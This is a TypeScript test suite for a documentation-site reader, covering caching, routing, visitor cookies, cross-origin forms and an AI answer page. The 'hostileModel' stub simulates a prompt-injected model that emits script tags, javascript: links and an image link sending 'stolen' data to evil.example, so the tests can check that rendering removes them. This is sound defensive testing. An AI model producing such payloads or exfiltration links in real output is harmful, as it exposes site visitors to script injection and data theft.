// The reader as a handler: which requests it takes, what it keeps and for how long, who sees what, and what it refuses.

import fc from "fast-check";
import type { AnswerModel, DocsApiOptions } from "octavo";
import { createSite } from "octavo/site";
import { expect, test } from "vitest";
import { chooseTextColor, ensureContrast } from "../../src/site/appearance/theme";
import { openSite, sign } from "../resources/sites/site-stage";
import { runs } from "../support/test-length";

const opened = async (visibility: string, options: DocsApiOptions = {}) => {
  const stage = await openSite(visibility, options);
  const site = createSite(stage.api);
  const get = async (path: string, headers: Record<string, string> = {}, method = "GET") => {
    const url = path.startsWith("http") ? path : stage.url + path;
    const response = await site.fetch(new Request(url, { method, headers, redirect: "manual" }));
    return { status: response.status, headers: response.headers, text: await response.text() };
  };
  return { ...stage, get };
};

test("a page is served from the cache until the next commit", async () => {
  const { get, ask, space, page } = await opened("public");
  const first = await get("");
  expect(first.status).toBe(200);
  expect(first.text).toContain("<p>Hello, reader.</p>");
  expect(first.headers.get("cache-control")).toContain("s-maxage");
  const again = await get("");
  expect(again.text).toBe(first.text);
  const etag = first.headers.get("etag")!;
  expect((await get("", { "if-none-match": `W/${etag}` })).status).toBe(304);
  expect((await get("", {}, "HEAD")).text).toBe("");
  const changes = [{ operation: "update_page", page, document: { markdown: "Hello again." } }];
  expect((await ask("admin", `POST /v1/spaces/${space}/content`, { changes })).status).toBe(200);
  const changed = await get("", { "if-none-match": etag });
  expect(changed.status).toBe(200);
  expect(changed.text).toContain("<p>Hello again.</p>");
});

test("external links are tabs beside the sections of a site, and items of the menu of their group", async () => {
  const { get, ask, at, space, org } = await opened("public");
  const done = async (route: string, send?: unknown) => {
    const { status, body } = await ask("admin", route, send);
    expect(status, JSON.stringify(body)).toBeLessThan(300);
    return body;
  };
  await done(`POST ${at}/sections`, { spaceId: space, title: "Guides" });
  expect((await get("")).text).not.toContain('<nav class="sections"');
  const other = (await done(`POST /v1/orgs/${org}/spaces`, { title: "API" })).id;
  const grouped = (await done(`POST ${at}/sections`, { spaceId: other, title: "API" })).id;
  const group = (await done(`POST ${at}/section-groups`, { title: "More", sections: [grouped] })).id;
  await done(`POST ${at}/external-links`, { title: "Status <now>", url: 'https://status.example.com/?a="b"&c' });
  await done(`POST ${at}/external-links`, { title: "Forum", url: "https://forum.example.com", parent: group });
  await done(`POST ${at}/external-links`, { title: "Secret", url: "https://secret.example.com", draft: true });
  const { text } = await get("");
  const tabs = /<nav class="sections".*?<\/nav>/s.exec(text)![0];
  expect(
    [...tabs.matchAll(/<a [^>]*href="([^"]*)"[^>]*>([^<]*)<|<summary>([^<]*)</g)].map((it) => it.slice(1, 4)),
  ).toEqual([
    [expect.stringMatching(/\/docs\/$/), "Guides", undefined],
    [undefined, undefined, "More"],
    [expect.stringMatching(/\/docs\/api$/), "API", undefined],
    ["https://forum.example.com", "Forum", undefined],
    ["https://status.example.com/?a=&quot;b&quot;&amp;c", "Status &lt;now&gt;", undefined],
  ]);
  expect(text).not.toContain("secret.example.com");
});

test("an unpublished site and one that never existed look the same", async () => {
  const { get, ask, at, url } = await opened("public");
  expect((await get("")).status).toBe(200);
  await ask("admin", `POST ${at}/unpublish`);
  const gone = await get("");
  const never = await get(`${url}-of-nobody`);
  expect([gone.status, gone.text]).toEqual([404, never.text]);
  expect(gone.headers.get("cache-control")).toBe("no-store");
});

test("requests that are not for a site go on to the API", async () => {
  const { get, url } = await opened("public");
  const { origin } = new URL(url);
  const answer = await get(`${origin}/v1/openapi.json`);
  expect(answer.status).toBe(200);
  expect(answer.headers.get("content-type")).toContain("json");
  expect((await get(`${origin}/v1/user`)).status).toBe(401);
});

test("a site opens on its own host with links that stay there, and every other host leads to the API", async () => {
  const { get, ask, at } = await opened("public");
  expect((await ask("admin", `PATCH ${at}`, { hostname: "docs.acme.example" })).status).toBe(200);
  const shown = await get("https://docs.acme.example/welcome");
  expect(shown.status).toBe(200);
  expect(shown.text).toContain('<a class="home" href="/">');
  expect(shown.text).toContain('<link rel="canonical" href="https://docs.acme.example/welcome">');
  expect((await get("https://docs.acme.example/v1/user")).status).toBe(404);
  expect((await get("https://10.0.0.7/v1/user")).status).toBe(401);
});

test("only reads are accepted, and malformed requests are rejected without an error", async () => {
  const { get, url } = await opened("public");
  const { text: home } = await get("");
  const assets = Array.from(home.matchAll(/(?:href|src)="([^"]*\/~octavo\/assets\/[^"]+)"/g), ([, path]) => path!);
  expect(assets.some((path) => path.endsWith(".css")) && assets.some((path) => path.endsWith(".js"))).toBe(true);
  for (const path of assets) {
    const address = new URL(path, url).href;
    expect([(await get(address)).status, (await get(address, {}, "HEAD")).status], path).toEqual([200, 200]);
    for (const method of ["POST", "PUT", "DELETE"]) {
      const refused = await get(address, {}, method);
      expect([refused.status, refused.headers.get("allow")], `${method} ${path}`).toEqual([405, "GET, HEAD"]);
    }
  }
  expect((await get("", {}, "DELETE")).status).toBe(405);
  for (const path of ["/%E0%A4%A", "/%00", `/${"a/".repeat(300)}`, "/~octavo/nothing", "/__proto__", "?q=%FF"])
    expect([200, 308, 404], path).toContain((await get(path)).status);
  const lost = await get("/installing/the-reader.html");
  expect(lost.status).toBe(404);
  expect(lost.text).toContain("Page not found");
  expect(lost.text).toContain('<meta name="robots" content="noindex">');
});

test("a visitor token opens a closed site from the address into a cookie of the site and no further", async () => {
  const stage = await opened("visitor-auth");
  const { get, url } = stage;
  const closed = await get("");
  expect(closed.status).toBe(404);
  expect(closed.text).not.toContain("Hello");
  const token = await sign(stage, {});
  const taken = await get(`?jwt_token=${token}&theme=x`);
  expect(taken.status).toBe(303);
  expect(taken.headers.get("location")).toBe(`${url}?theme=x`);
  const cookie = taken.headers.get("set-cookie")!;
  expect(cookie).toContain("HttpOnly");
  expect(cookie).toContain(`Path=${new URL(url).pathname}`);
  const shown = await get("", { cookie: cookie.split(";")[0]! });
  expect(shown.status).toBe(200);
  expect(shown.headers.get("cache-control")).toBe("private, no-cache");
  // What a visitor saw is not kept for the next one.
  expect((await get("")).status).toBe(404);
  const wrong = await get(`?jwt_token=${token.slice(0, -2)}xx`);
  expect([wrong.status, wrong.headers.get("set-cookie")]).toEqual([404, null]);
});

test("pages for one visitor are never shown to another", async () => {
  const stage = await opened("public");
  const { get, ask, space } = stage;
  const markdown = "{% if visitor.claims.isBeta %}\nOnly for some.\n{% endif %}\n\nFor all.\n";
  const changes = [{ operation: "insert_page", title: "Beta", document: { markdown } }];
  await ask("admin", `POST /v1/spaces/${space}/content`, { changes });
  const cookie = `octavo-visitor=${await sign(stage, { isBeta: true })}`;
  const before = await get("/beta");
  const some = await get("/beta", { cookie });
  const after = await get("/beta");
  expect(some.text).toContain("Only for some.");
  expect([before.text, after.text].map((text) => text.includes("Only for some."))).toEqual([false, false]);
  expect((await get("/beta.md")).text).not.toContain("Only for some.");
});

test("claims that visitors state themselves affect only what they see", async () => {
  const { get, ask, space } = await opened("public");
  const markdown = "{% if visitor.claims.unsigned.isGuest %}\nHello, guest.\n{% endif %}\n\nFor all.\n";
  const changes = [{ operation: "insert_page", title: "Guests", document: { markdown } }];
  await ask("admin", `POST /v1/spaces/${space}/content`, { changes });
  const said = await get("/guests?visitor.isGuest=true");
  expect(said.status).toBe(303);
  const cookie = said.headers.get("set-cookie")!.split(";")[0]!;
  expect((await get("/guests", { cookie })).text).toContain("Hello, guest.");
  expect((await get("/guests")).text).not.toContain("Hello, guest.");
  expect((await get("/guests", { cookie: "octavo-claims=%7B" })).status).toBe(200);
});

test("a form from another site has no effect", async () => {
  const { ask, at, page, url, api } = await opened("public");
  await ask("admin", `PUT ${at}/customization`, { feedback: { enabled: true } });
  const site = createSite(api);
  const rate = async (headers: Record<string, string>) => {
    const body = new URLSearchParams({ page, rating: "good" });
    return (await site.fetch(new Request(`${url}/~octavo/feedback`, { method: "POST", headers, body }))).status;
  };
  const counted = async () => {
    const question = { select: ["page_post_feedback"] };
    return (await ask("admin", `POST ${at}/insights/events/aggregate`, question)).body.total as unknown;
  };
  const none = await counted();
  expect(await rate({ origin: "https://elsewhere.example" })).toBe(400);
  expect(await rate({})).toBe(400);
  expect(await counted()).toEqual(none);
  expect(await rate({ origin: new URL(url).origin })).toBe(200);
  expect(await counted()).not.toEqual(none);
});

/** A model that was told by a page to do harm. */
const hostileModel: AnswerModel = async function* (question, { passages, language }) {
  yield `## You asked: ${question} (${language})\n\n<script>alert(1)</script>\n\nSee ![x](https://evil.example/?q=stolen)\n\n`;
  yield "[click](javascript:alert(1)) and [the web](https://example.org/) and `code`\n\n- one\n- two\n\n";
  yield '{% embed url="https://evil.example/" %}\n\n```js\nconst a = 1;\n```\n\n';
  for (const { title, text } of passages) yield `${title}: ${text}\n\n`;
  yield { followups: ["And <then>?"] };
};

test("a question is answered where the site and the host allow it, from what the visitor may see", async () => {
  const stage = await opened("public", { ask: hostileModel });
  const { get, ask, at, space, url, api } = stage;
  const markdown = "{% if visitor.claims.isBeta %}\nHello to betas.\n{% endif %}\n\nHello to all.\n";
  const changes = [{ operation: "insert_page", title: "Greeting", document: { markdown } }];
  await ask("admin", `POST /v1/spaces/${space}/content`, { changes });
  const site = createSite(api);
  const own = { origin: new URL(url).origin };
  const put = async (form: Record<string, string>, headers: Record<string, string> = own) => {
    const body = new URLSearchParams(form);
    const response = await site.fetch(new Request(`${url}/~octavo/ask`, { method: "POST", headers, body }));
    return { status: response.status, headers: response.headers, text: await response.text() };
  };

  expect((await get("")).text).not.toContain("~octavo/ask");
  for (const mode of ["none", "integration"]) {
    await ask("admin", `PUT ${at}/customization`, { ai: { mode } });
    expect([(await get("/~octavo/ask")).status, (await put({ q: "hello" })).status], mode).toEqual([404, 404]);
  }
  await ask("admin", `PUT ${at}/customization`, { ai: { mode: "assistant" } });
  expect((await get("")).text).toContain("~octavo/ask");
  expect((await get("/~octavo/search?q=hello")).text).toContain('<input type="hidden" name="q" value="hello">');
  expect((await get("/~octavo/ask")).text).toContain('<input type="text" name="q" required');
  expect((await put({ q: "hello" }, { origin: "https://elsewhere.example" })).status).toBe(403);

  const page = await put({ q: "hello" });
  expect(page.status).toBe(200);
  expect(page.headers.get("cache-control")).toBe("no-store");
  expect(page.text).toContain("You asked: hello (en)");
  expect(page.text).toContain('<a href="https://example.org/">the web</a>');
  expect(page.text).toContain(`<a href="${new URL(url).pathname}/greeting">Greeting</a>`);
  expect(page.text).toContain("Hello to all.");
  expect(page.text).toContain('value="And &lt;then&gt;?"');
  for (const harm of ["<script>alert", "stolen", 'src="https://evil', "javascript:", "<iframe", "Hello to betas"])
    expect(page.text.includes(harm), harm).toBe(false);
  const cookie = `octavo-visitor=${await sign(stage, { isBeta: true })}`;
  expect((await put({ q: "hello" }, { ...own, cookie })).text).toContain("Hello to betas.");

  const streamed = await put({ q: "hello", alone: "1" });
  const states = streamed.text
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as string);
  expect(states.length).toBeGreaterThan(1);
  expect(page.text).toContain(states.at(-1)!);
  expect(states[0]).not.toContain("Greeting");
});

test("a failing model is reported, an abandoned answer stops, and without a model no questions are offered", async () => {
  let isStopped = false;
  const model: AnswerModel = async function* (question) {
    if (question === "fail") throw new Error("the model is gone");
    try {
      for (let i = 0; i < 1000; i++) yield `Word ${i} of an answer that is very long and has no end.\n\n`;
    } finally {
      isStopped = true;
    }
  };
  const { ask, at, url, api, get } = await opened("public", { ask: model, onError: () => undefined });
  await ask("admin", `PUT ${at}/customization`, { ai: { mode: "search" } });
  const site = createSite(api);
  const put = (q: string) => {
    const init = { method: "POST", headers: { origin: new URL(url).origin } };
    return site.fetch(new Request(`${url}/~octavo/ask`, { ...init, body: new URLSearchParams({ q, alone: "1" }) }));
  };
  expect(await (await put("fail")).text()).toContain("No answer could be generated");
  const reader = (await put("go on")).body!.getReader();
  expect(new TextDecoder().decode((await reader.read()).value)).toContain("Word 0");
  await reader.cancel();
  await expect.poll(() => isStopped).toBe(true);
  expect((await get("")).text).toContain("~octavo/ask");

  const other = await opened("public");
  await other.ask("admin", `PUT ${other.at}/customization`, { ai: { mode: "search" } });
  expect((await other.get("")).text).not.toContain("~octavo/ask");
  expect((await other.get("/~octavo/ask")).status).toBe(404);
});

test("a text color is readable on its background, whatever a site chose", () => {
  const hex = fc.integer({ min: 0, max: 0xffffff }).map((it) => `#${it.toString(16).padStart(6, "0")}`);
  fc.assert(
    fc.property(hex, fc.constantFrom("#ffffff", "#14181c", "#f5f7f9", "#1b2025"), (color, ground) => {
      expect(contrast(ensureContrast(color, [ground], 0.1), ground)).toBeGreaterThanOrEqual(4.5);
      expect(contrast(chooseTextColor(color), color)).toBeGreaterThanOrEqual(4.5);
    }),
    { numRuns: runs(200) },
  );
});

/** The ratio of brightness of two colours, computed as the guidelines say. */
function contrast(a: string, b: string): number {
  const bright = (color: string) =>
    [0.2126, 0.7152, 0.0722]
      .map((weight, i) => {
        const share = Number.parseInt(color.slice(1 + 2 * i, 3 + 2 * i), 16) / 255;
        return weight * (share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4);
      })
      .reduce((sum, part) => sum + part, 0);
  const [light, dark] = [bright(a), bright(b)].sort((x, y) => y - x) as [number, number];
  return (light + 0.05) / (dark + 0.05);
}

test("results of the host's search engine are never cached", async () => {
  let hits: { id: string; score: number }[] = [];
  const search = { update: async () => {}, search: async () => ({ total: hits.length, hits }) };
  const { get, page } = await opened("public", { search });
  for (const path of ["/~octavo/search?q=hello", "/~octavo/search.json?q=hello"]) {
    hits = [];
    expect((await get(path)).text, path).not.toContain("Welcome");
    hits = [{ id: page, score: 1 }];
    expect((await get(path)).text, path).toContain("Welcome");
  }
});

test("the results page stands alone, and nothing links to a missing table of contents", async () => {
  const { get } = await opened("public");
  const { text } = await get("/~octavo/search?q=hello");
  expect(text).toContain("Welcome");
  expect(text).not.toContain("--pages");
  expect((await get("")).text).toContain('href="#--pages"');
});
